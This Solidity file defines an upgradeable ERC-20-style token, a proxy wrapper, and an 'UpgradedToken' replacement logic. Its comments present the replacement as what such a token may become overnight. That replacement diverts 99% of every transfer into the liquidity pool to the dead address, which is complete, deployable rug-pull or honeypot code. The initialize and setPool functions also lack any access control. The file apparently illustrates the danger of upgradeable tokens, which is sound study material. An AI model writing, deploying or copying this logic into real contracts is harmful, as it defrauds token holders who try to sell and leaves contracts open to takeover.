// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {TransparentUpgradeableProxy} from "@openzeppelin/contracts/proxy/transparent/TransparentUpgradeableProxy.sol";

/// A token whose code can be exchanged under its holders: the logic behind UpgradeableTokenProxy.
contract UpgradeableToken {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address owner => uint256) public balanceOf;
    mapping(address owner => mapping(address spender => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function initialize(string calldata name_, string calldata symbol_, uint256 supply, address to) external {
        require(totalSupply == 0, "INITIALIZED");
        (name, symbol, totalSupply) = (name_, symbol_, supply);
        balanceOf[to] = supply;
        emit Transfer(address(0), to, supply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _transfer(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        return _transfer(from, to, value);
    }

    function _transfer(address from, address to, uint256 value) internal virtual returns (bool) {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// What such a token may become overnight: the logic that keeps nearly all of what is paid into its pool.
contract UpgradedToken is UpgradeableToken {
    address private constant KEPT = 0x000000000000000000000000000000000000dEaD;
    address public pool;

    function setPool(address pool_) external {
        require(pool == address(0));
        pool = pool_;
    }

    function _transfer(address from, address to, uint256 value) internal override returns (bool) {
        uint256 kept = to == pool ? (value * 99) / 100 : 0;
        if (kept > 0) super._transfer(from, KEPT, kept);
        return super._transfer(from, to, value - kept);
    }
}

contract UpgradeableTokenProxy is TransparentUpgradeableProxy {
    constructor(address logic, address admin, bytes memory data) TransparentUpgradeableProxy(logic, admin, data) {}
}
